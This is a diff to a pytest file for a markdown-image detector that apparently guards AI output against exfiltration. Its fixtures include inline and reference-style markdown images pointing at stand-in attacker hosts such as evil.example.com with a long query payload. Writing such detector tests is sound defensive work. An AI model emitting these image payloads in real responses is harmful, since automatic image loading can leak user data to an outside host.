@@ -7,9 +7,11 @@ import pytest
 from langchain_mistral_secure.detection import get_detector, merge_findings
 from langchain_mistral_secure.detection.content import (
     CONTENT_CATEGORIES,
+    IMAGE_HOLD,
     ContentDetector,
     host_allowed,
 )
+from langchain_mistral_secure.detection.content_markdown import LOOKAHEAD
 
 
 def _found(text: str, detector: ContentDetector | None = None) -> list[tuple[str, str]]:
@@ -147,8 +149,8 @@ def test_registry_default_has_empty_allowlist() -> None:
     detector = get_detector("content")
     assert isinstance(detector, ContentDetector)
     assert detector.image_host_allowlist == ()
-    # A whole markdown image (alt, host and a 120-character path) is one finding.
-    assert detector.max_match_len <= 340
+    # A stream holds everything that decides an image (and no more).
+    assert LOOKAHEAD < detector.max_match_len == IMAGE_HOLD <= 510
     assert "evil" not in repr(detector)
 
 
@@ -176,8 +178,9 @@ _LONG = "https://evil.example.com/p?d=" + "Q" * 700
         (f'a ![x]({_LONG} "t") b', f'![x]({_LONG} "t")'),
         (f"a ![x]({_LONG}", f"![x]({_LONG}"),
         (f"a ![x]({_LONG}\nnext", f"![x]({_LONG}"),
-        ("a ![x][ref] b", "![x][ref]"),
-        ("a ![x][] b", "![x][]"),
+        # Reference images fetch what their definition says: that is neutralized.
+        ("a ![x][ref] b\n\n[ref]: https://evil.io/x", "]: https://evil.io/x"),
+        ("a ![x][] b\n\n[x]:\n  <https://evil.io/x>", "]:\n  <https://evil.io/x>"),
     ],
 )
 def test_image_span_covers_the_whole_image(text: str, span: str) -> None:
@@ -185,6 +188,9 @@ def test_image_span_covers_the_whole_image(text: str, span: str) -> None:
     assert [text[f.start : f.end] for f in findings] == [span]
 
 
-@pytest.mark.parametrize("text", ["vec![a][0]", "[text][ref]", "![x](/local.png)"])
+@pytest.mark.parametrize(
+    "text",
+    ["vec![a][0]", "[text][ref]", "![x](/local.png)", "![x][r] ![y][]", "[r]: /a.png"],
+)
 def test_no_reference_image_finding(text: str) -> None:
     assert ContentDetector().detect(text) == []
